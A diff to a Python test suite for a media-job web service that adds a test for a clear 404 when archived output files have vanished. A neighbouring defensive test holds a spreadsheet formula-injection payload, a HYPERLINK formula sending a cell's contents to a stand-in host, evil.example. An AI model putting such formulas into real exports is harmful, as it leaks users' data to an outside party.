@@ -92,6 +92,28 @@ async def test_an_output_that_claims_to_be_a_page_is_served_as_an_inert_download
     assert "content-disposition" not in png.headers
 
 
+async def test_an_archived_output_whose_bytes_left_the_store_is_a_clear_404(
+    tmp_path: Path, sqlite_url: str
+) -> None:
+    """The headers went out before the store was read: a 200 whose body broke off."""
+    with live_server(Litestar([hostile_output])) as upstream:
+        settings = make_settings(tmp_path / "data", sqlite_url, aurous_base_url=upstream.url)
+        async with admin_client(settings) as client:
+            await deliver(client, "img_vanished", output_urls=[f"{upstream.url}/o/plain.png"])
+            await client.app.state.runtime.archiver.run_until_idle()
+            for blob in (tmp_path / "data" / "media").rglob("*"):
+                if blob.is_file():
+                    blob.unlink()
+            whole = await client.get("/jobs/img_vanished/outputs/0")
+            ranged = await client.get(
+                "/jobs/img_vanished/outputs/0", headers={"Range": "bytes=1-5"}
+            )
+
+    for answer in (whole, ranged):
+        assert answer.status_code == 404, answer.text
+        assert answer.json()["error"]["code"] == "output_missing"
+
+
 async def test_no_cell_of_a_spend_csv_can_become_a_formula(tmp_path: Path, sqlite_url: str) -> None:
     formula = '=HYPERLINK("https://evil.example/?"&A1,"open me")'
     settings = make_settings(tmp_path / "data", sqlite_url)
